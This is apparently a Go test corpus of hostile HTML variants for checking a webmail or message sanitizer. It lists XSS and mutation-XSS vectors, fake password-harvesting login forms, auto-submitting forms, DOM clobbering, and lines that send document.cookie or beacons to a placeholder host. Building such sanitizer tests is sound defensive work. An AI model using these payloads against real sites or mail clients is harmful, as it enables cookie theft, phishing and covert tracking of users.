package hostile

import "fmt"

// loads are all elements and attributes that fetch something without a script.
func loads(c *class) {
	for _, v := range []variant{
		{"img src", `<img src="CANARY">`},
		{"img src, tiny", `<img src="CANARY" width=1 height=1>`},
		{"img src with spaces", `<img src="  CANARY  ">`},
		{"img src with a tab", "<img src=\"ht\ttp:NEAR\">"},
		{"img src in upper case", `<IMG SRC="HTTP:NEAR">`},
		{"img src without slashes", `<img src="http:x"><img src="NEAR">`},
		{"img src, lazy", `<img src="CANARY" loading=lazy>`},
		{"img src, eager", `<img src="CANARY" loading=eager fetchpriority=high decoding=sync crossorigin=use-credentials referrerpolicy=unsafe-url>`},
		{"img srcset", `<img srcset="CANARY 1x">`},
		{"img srcset beside data", `<img src="data:," srcset="data:, 1x, CANARY 2x" sizes=1px>`},
		{"img lowsrc dynsrc longdesc", `<img lowsrc="CANARY" dynsrc="CANARY" longdesc="CANARY" usemap="CANARY" attributionsrc="CANARY">`},
		{"image", `<image src="CANARY">`},
		{"picture", `<picture><source srcset="CANARY"><img></picture>`},
		{"picture with media", `<picture><source media="(min-width:1px)" srcset="CANARY"><img src="data:,"></picture>`},
		{"video", `<video src="CANARY" autoplay muted preload=auto></video>`},
		{"video poster", `<video poster="CANARY"></video>`},
		{"video source", `<video autoplay muted><source src="CANARY" type=video/mp4></video>`},
		{"video track", `<video src="data:video/mp4," autoplay><track default kind=subtitles src="CANARY"></video>`},
		{"audio", `<audio src="CANARY" autoplay preload=auto></audio>`},
		{"audio source", `<audio autoplay><source src="CANARY"></audio>`},
		{"bgsound", `<bgsound src="CANARY">`},
		{"iframe", `<iframe src="CANARY"></iframe>`},
		{"iframe, nested document", `<iframe srcdoc="<img src=&quot;CANARY&quot;>"></iframe>`},
		{"iframe, nested data", `<iframe src="data:text/html,<img src='CANARY'>"></iframe>`},
		{"frame", `<frameset><frame src="CANARY"></frameset>`},
		{"frame longdesc", `<iframe longdesc="CANARY" csp="default-src *" allow="*" src="about:blank"></iframe>`},
		{"object data", `<object data="CANARY"></object>`},
		{"object data as html", `<object type=text/html data="CANARY"></object>`},
		{"object codebase", `<object classid="clsid:x" codebase="CANARY" archive="CANARY"><param name=src value="CANARY"><param name=movie value="CANARY"></object>`},
		{"embed", `<embed src="CANARY">`},
		{"embed as svg", `<embed type="image/svg+xml" src="CANARY">`},
		{"applet", `<applet code="x" codebase="CANARY" archive="CANARY"></applet>`},
		{"portal", `<portal src="CANARY"></portal>`},
		{"fencedframe", `<fencedframe src="CANARY"></fencedframe>`},
		{"input image", `<input type=image src="CANARY">`},
		{"table background", `<table background="CANARY"><tr><td>x</table>`},
		{"cell background", `<table><tr background="CANARY"><td background="CANARY">x</table>`},
		{"body background", `<body background="CANARY">`},
		{"html manifest", `<html manifest="CANARY">`},
		{"link stylesheet", `<link rel=stylesheet href="CANARY">`},
		{"link stylesheet, alternate", `<link rel="alternate stylesheet" title=x href="CANARY">`},
		{"link stylesheet for print", `<link rel=stylesheet media=print href="CANARY">`},
		{"link icon", `<link rel=icon href="CANARY"><link rel="shortcut icon" href="CANARY"><link rel=apple-touch-icon href="CANARY">`},
		{"link manifest", `<link rel=manifest href="CANARY" crossorigin=use-credentials>`},
		{"link prefetch", `<link rel=prefetch href="CANARY">`},
		{"link prerender", `<link rel=prerender href="CANARY">`},
		{"link preload", `<link rel=preload as=image href="CANARY">`},
		{"link preload, imagesrcset", `<link rel=preload as=image imagesrcset="CANARY 1x">`},
		{"link modulepreload", `<link rel=modulepreload href="CANARY">`},
		{"link preconnect", `<link rel=preconnect href="KNOCK">`},
		{"link preconnect with credentials", `<link rel=preconnect href="KNOCK" crossorigin>`},
		{"link dns-prefetch", `<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href="KNOCK">`},
		{"link import", `<link rel=import href="CANARY"><link rel=pingback href="CANARY"><link rel=search type="application/opensearchdescription+xml" href="CANARY">`},
		{"link compression dictionary", `<link rel=compression-dictionary href="CANARY">`},
		{"a ping", `<a href="#x" ping="CANARY" autofocus>x</a>`},
		{"a attributionsrc", `<a href="#x" attributionsrc="CANARY">x</a><img attributionsrc="CANARY">`},
		{"cite and the like", `<blockquote cite="CANARY">x</blockquote><q cite="CANARY">x</q><ins cite="CANARY">x</ins><del cite="CANARY">x</del>`},
		{"head profile", `<head profile="CANARY"></head>`},
		{"meta csp report", `<meta http-equiv=Content-Security-Policy content="default-src 'none'; report-uri CANARY"><img src="CANARY/blocked">`},
		{"meta open graph", `<meta property=og:image content="CANARY"><meta http-equiv=Link content="<CANARY>; rel=stylesheet"><meta http-equiv=Set-Cookie content="x=y">`},
		{"meta cookie and policy", `<meta http-equiv=Content-Security-Policy content="img-src *"><meta name=referrer content=unsafe-url><img src="CANARY">`},
		{"svg image", `<svg width=9 height=9><image href="CANARY" width=9 height=9 /></svg>`},
		{"svg image by xlink", `<svg width=9 height=9><image xlink:href="CANARY" width=9 height=9 /></svg>`},
		{"svg filter image", `<svg width=9 height=9><filter id=f><feImage href="CANARY"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`},
		{"svg use", `<svg><use href="CANARY#x"/></svg>`},
		{"svg style", `<svg><style>@import url(CANARY);</style></svg>`},
		{"svg paint by address", `<svg width=9 height=9><rect width=9 height=9 fill="url(CANARY#x)" mask="url(CANARY#y)" clip-path="url(CANARY#z)"/></svg>`},
		{"math href", `<math href="CANARY"><mglyph src="CANARY"/><mi xlink:href="CANARY">x</mi></math>`},
		{"layer", `<layer src="CANARY"></layer><ilayer src="CANARY"></ilayer><multicol><spacer src="CANARY"></multicol>`},
		{"xml data island", `<xml src="CANARY" id=x></xml><x xmlns:x="CANARY"><?import namespace=x implementation="CANARY"?></x>`},
		{"html component", `<x style="behavior:url(CANARY)"></x><t:audio xmlns:t="urn:x" src="CANARY" style="behavior:url(#default#time2)"></t:audio>`},
		{"vml", `<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill type=frame src="CANARY"/></v:rect><v:image src="CANARY"></v:image>`},
		{"in a template", `<template><img src="CANARY"></template><div><template shadowrootmode=open><img src="CANARY"></template></div>`},
		{"in noscript", `<noscript><img src="CANARY"></noscript>`},
		{"in noembed and noframes", `<noembed><img src="CANARY"></noembed><noframes><img src="CANARY"></noframes>`},
		{"in a conditional comment", `<!--[if !mso]><!--><img src="CANARY"><!--<![endif]-->`},
		{"model and controlled frame", `<model><source src="CANARY"></model><controlledframe src="CANARY"></controlledframe><webview src="CANARY"></webview>`},
	} {
		c.html(v.name, v.text)
	}
}

// namespaces are svg and math, and what lives only there.
func namespaces(c *class) {
	for _, v := range []variant{
		{"use of a data document", `<svg><use href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='x'><image href='CANARY'/></svg>#x"/></svg>`},
		{"animate href", `<svg><a><animate attributeName=href values="javascript:RUN"/><text y=9>x</text></a></svg>`},
		{"animate by", `<svg><a href="x"><animate attributeName=href by="javascript:RUN"/><text y=9>x</text></a></svg>`},
		{"animate with entities", `<svg><a><animate attributeName="&#104;ref" to="java&#9;script:RUN"/><text y=9>x</text></a></svg>`},
		{"set a handler", `<svg><set attributeName=onload to="RUN"/></svg>`},
		{"set the address of an image", `<svg width=9 height=9><image width=9 height=9><set attributeName=href to="CANARY"/></image></svg>`},
		{"animate the address of an image", `<svg width=9 height=9><image width=9 height=9 href="data:,"><animate attributeName=xlink:href values="CANARY" dur=1s /></image></svg>`},
		{"handler", `<svg><handler type="text/javascript">RUN</handler></svg>`},
		{"foreignObject", `<svg><foreignObject><iframe src="CANARY"></iframe><img src="CANARY" onerror="RUN"></foreignObject></svg>`},
		{"desc as html", `<svg><desc><img src="CANARY"></desc></svg>`},
		{"title as html", `<svg><title><img src="CANARY"></title></svg>`},
		{"switch", `<svg><switch><foreignObject requiredFeatures=""><body xmlns="http://www.w3.org/1999/xhtml" onload="RUN"></body></foreignObject></switch></svg>`},
		{"nested svg", `<svg><svg><g onload="RUN"></g><svg onload="RUN"></svg></svg></svg>`},
		{"metadata", `<svg><metadata><x:img xmlns:x="http://www.w3.org/1999/xhtml" src="CANARY"/></metadata></svg>`},
		{"link in svg", `<svg><a href="javascript:RUN"><text y=9>x</text></a><a xlink:href="CANARY" xlink:show=new xlink:actuate=onLoad>x</a></svg>`},
		{"cursor", `<svg><cursor id=c href="CANARY"/></svg>`},
		{"font", `<svg><font-face><font-face-src><font-face-uri href="CANARY"/></font-face-src></font-face></svg>`},
		{"color profile", `<svg><color-profile name=x href="CANARY"/><mpath href="CANARY"/><textPath href="CANARY#x">x</textPath></svg>`},
		{"math action", `<math><maction actiontype="statusline#CANARY" xlink:href="javascript:RUN">x</maction></math>`},
		{"math annotation as html", `<math><annotation-xml encoding="text/html"><img src="CANARY" onerror="RUN"></annotation-xml></math>`},
		{"math annotation as svg", `<math><annotation-xml encoding="image/svg+xml"><svg onload="RUN"></svg></annotation-xml></math>`},
		{"math text as html", `<math><mtext><img src="CANARY" onerror="RUN"></mtext></math>`},
		{"math stylesheet", `<math><style>@import 'CANARY';</style><mi style="background:url(CANARY)">x</mi></math>`},
		{"name space of xhtml", `<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script><x:img xmlns:x="http://www.w3.org/1999/xhtml" src="CANARY"/>`},
		{"svg that closes in html", `<svg><p><img src="CANARY"></p></svg>`},
		{"cdata in svg", `<svg><![CDATA[</svg><img src="CANARY" onerror="RUN">]]></svg>`},
	} {
		c.html(v.name, v.text)
	}
}

// mutations are trees that a second parser reads differently from the first.
func mutations(c *class) {
	img := `<img src='CANARY' onerror='BARE'>`
	for _, raw := range []string{"style", "title", "textarea", "noscript", "xmp", "iframe", "noembed", "noframes", "script", "template", "plaintext", "listing"} {
		c.html("a tag in a title in "+raw, fmt.Sprintf(`<%[1]s><p title="</%[1]s>%[2]s">x`, raw, img))
		c.html("svg and "+raw, fmt.Sprintf(`<svg></p><%[1]s><a id="</%[1]s>%[2]s">`, raw, img))
		c.html("math and "+raw, fmt.Sprintf(`<math><mi><%[1]s><a id="</%[1]s>%[2]s">`, raw, img))
	}
	for _, v := range []variant{
		{"mglyph and a comment", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src='CANARY'&gt;">`},
		{"form in a form", `<form><math><mtext></form><form><mglyph><style></math><img src='CANARY'>`},
		{"malignmark", `<math><mtext><table><malignmark><style><!--</style><img title="--&gt;&lt;img src='CANARY'&gt;">`},
		{"select and style", `<select><style></select><img src='CANARY'></style></select>`},
		{"select and math", `<select><math><mtext><style></select><img src='CANARY'>`},
		{"table fosters a link", `<table><a href="javascript:RUN">x<td><img src='CANARY'></table>`},
		{"table fosters a style", `<table><style><img title="</style><img src='CANARY'>"></table>`},
		{"nested links", `<a href="http://a.example"><table><a href="javascript:RUN">x</a></table></a>`},
		{"nested tables", `<table><tr><td><table><caption><svg><table><style><a title="</style><img src='CANARY'>">`},
		{"formatting adopted", `<b><p><i></b><svg><style><b title="</style><img src='CANARY'>"></i></p>`},
		{"nobr and font", `<nobr><font><svg><nobr><style><!--</font><img src='CANARY'>-->`},
		{"comment in a comment", `<!-- <!-- --><img src='CANARY'> --> -->`},
		{"comment with a bang", `<!--!><img src='CANARY'>--!>`},
		{"comment without an end", `<!-- <img src='CANARY'>`},
		{"empty comment", `<!><img src='CANARY'><!--->`},
		{"bogus comment", `</ x><img src='CANARY'></%x><img src='CANARY'>`},
		{"cdata", `<![CDATA[<img src='CANARY'>]]>`},
		{"cdata that closes early", `<![CDATA[>]]><img src='CANARY'>`},
		{"declaration", `<!x "><img src='CANARY'>">`},
		{"attribute without an end", `<p title="<img src='CANARY'>`},
		{"tag in a tag", `<p <img src='CANARY'>>`},
		{"tag without an end", `<img src='CANARY'`},
		{"double bracket", `<<img src='CANARY'>`},
		{"slash brackets", `</><img src='CANARY'></ ><//img src='CANARY'>`},
		{"name with a slash", `<img/x/src='CANARY'/>`},
		{"body in body", `<body><p></body><body background='CANARY'><frameset><frame src='CANARY'>`},
		{"html in html", `<p><html><head><base href='CANARY/'></head><img src=x></html>`},
		{"isindex", `<isindex prompt="x" action="javascript:RUN" type=image src='CANARY' onerror='BARE'>`},
		{"dt and dd", `<dl><dt><svg><dd><style><a title="</style><img src='CANARY'>">`},
		{"ruby", `<ruby><rtc><svg><rp><style><a title="</style><img src='CANARY'>">`},
		{"entity at the end", `<p title="&lt;img src='CANARY'&gt`},
		{"null between", "<i\x00mg src='CANARY'><img s\x00rc='CANARY'>"},
		{"carriage returns", "<img\rsrc\r=\r'CANARY'\r>"},
		{"unit separators", "<img\x1fsrc='CANARY'\x1f>"},
	} {
		c.html(v.name, v.text)
	}
}

// forms take what people type, or look as if they did.
func forms(c *class) {
	for _, v := range []variant{
		{"submitted by a script", `<form id=f action="CANARY"><input name=x value=y></form><script>f.submit()</script>`},
		{"submitted by a handler", `<form action="CANARY"><input autofocus onfocus="form.submit()"></form>`},
		{"asks for a password", `<form action="CANARY" method=post>Your session has ended.<input name=u autocomplete=username><input type=password name=p autocomplete=current-password><button>Log in</button></form>`},
		{"posts to us", `<form action="/act" method=post><input name=op value=delete><input name=all value=1><input type=submit autofocus></form>`},
		{"logs out", `<form action="/logout" method=post><button style="position:fixed;inset:0">x</button></form>`},
		{"button that belongs to a form", `<button form=f formaction="CANARY" formmethod=post>x</button><form id=f></form>`},
		{"image button", `<form action="CANARY"><input type=image src="CANARY"></form>`},
		{"key generator", `<form action="CANARY"><keygen name=x autofocus></form>`},
		{"file", `<form action="CANARY" enctype=multipart/form-data><input type=file name=f webkitdirectory></form>`},
		{"data list", `<input list=l autofocus><datalist id=l><option value=x onclick="RUN"></datalist>`},
		{"popover and dialog", `<button popovertarget=p autofocus>x</button><div id=p popover style="position:fixed;inset:0">log in</div><dialog open>x</dialog>`},
		{"command button", `<button command=show-modal commandfor=d autofocus>x</button><dialog id=d><form method=dialog><img src="CANARY"></form></dialog>`},
		{"editable", `<div contenteditable autofocus spellcheck style="-webkit-user-modify:read-write">type here</div>`},
		{"autofocus steals keys", `<textarea autofocus style="position:fixed;inset:0;opacity:0"></textarea>`},
		{"portal by target", `<form action="CANARY" target=_top><button autofocus>x</button></form>`},
	} {
		c.html(v.name, v.text)
	}
}

// windows reach for other windows than the message's own.
func windows(c *class) {
	for _, v := range []variant{
		{"top", `<script>top.location='CANARY'</script>`},
		{"parent", `<script>parent.location.replace('CANARY')</script>`},
		{"open", `<script>open('CANARY')</script>`},
		{"opener", `<script>if(opener)opener.location='CANARY'</script>`},
		{"parent document", `<script>new Image().src='CANARY/'+parent.document.title</script>`},
		{"message to the parent", `<script>parent.postMessage('CANARY','*')</script>`},
		{"cookie", `<script>new Image().src='CANARY/'+document.cookie</script>`},
		{"link to the top", `<a href="CANARY" target=_top rel=opener autofocus onfocus="this.click()">x</a>`},
		{"link to a named window", `<a href="http://x.example" target="main" rel="opener">x</a>`},
		{"link with a dangling target", "<base target='\n<x'><a href=\"http://x.example\">x</a>"},
		{"download", `<a href="data:application/octet-stream,x" download="invoice.exe" autofocus onfocus="this.click()">x</a>`},
		{"download of ours", `<a href="/m/x/eml" download>x</a>`},
		{"named frame", `<iframe name="main" src="CANARY"></iframe><a href="http://x.example" target=main>x</a>`},
		{"frame without a sandbox", `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>BARE</script>"></iframe>`},
		{"worker", `<script>new Worker('data:text/javascript,fetch("CANARY")')</script>`},
		{"socket", `<script>new WebSocket('ws:NEAR')</script>`},
		{"beacon", `<script>navigator.sendBeacon('CANARY')</script>`},
		{"events", `<script>new EventSource('CANARY')</script>`},
		{"print", `<script>print()</script>`},
		{"full screen", `<script>document.documentElement.requestFullscreen();RUN</script>`},
		{"before leaving", `<body onbeforeunload="RUN;return 1" onunload="RUN" onpagehide="RUN">`},
	} {
		c.html(v.name, v.text)
	}
}

// clobbers use names that scripts of a page look up.
func clobbers(c *class) {
	for _, v := range []variant{
		{"names of document", `<img name=body><img name=cookie><img name=getElementById><form name=forms><input name=submit></form>`},
		{"names of window", `<a id=location href="javascript:RUN">x</a><iframe name=top></iframe><a id=self>x</a><object id=opener></object>`},
		{"names of ours", `<div id=main class=toast>x</div><div id=folders class=warn>x</div><form id=list><input name=token value=x></form><meta name=wm-token content=x>`},
		{"our classes", `<p class="notice warn suspicious">Verified by your provider</p><a class=suspicious href="https://x.example">x</a>`},
		{"our prefix", `<p id=m-m-x class="m-suspicious m-">x</p><a href="#m-x">x</a>`},
		{"accessible names", `<div role=alert aria-live=assertive aria-modal=true aria-label="Your session has ended">x</div><p slot=x part=x exportparts=x is=x itemprop=x>x</p>`},
		{"data attributes", `<p data-frag=list data-action="RUN" hx-get="CANARY" hx-trigger=load x-data="RUN" v-html="RUN" ng-app ng-init="RUN" data-src="CANARY">{{constructor.constructor('RUN')()}}</p>`},
		{"template words", `{{.Token}} {{define "content"}}x{{end}} ${RUN} <%= RUN %> #{RUN} [[RUN]]`},
	} {
		c.html(v.name, v.text)
	}
}
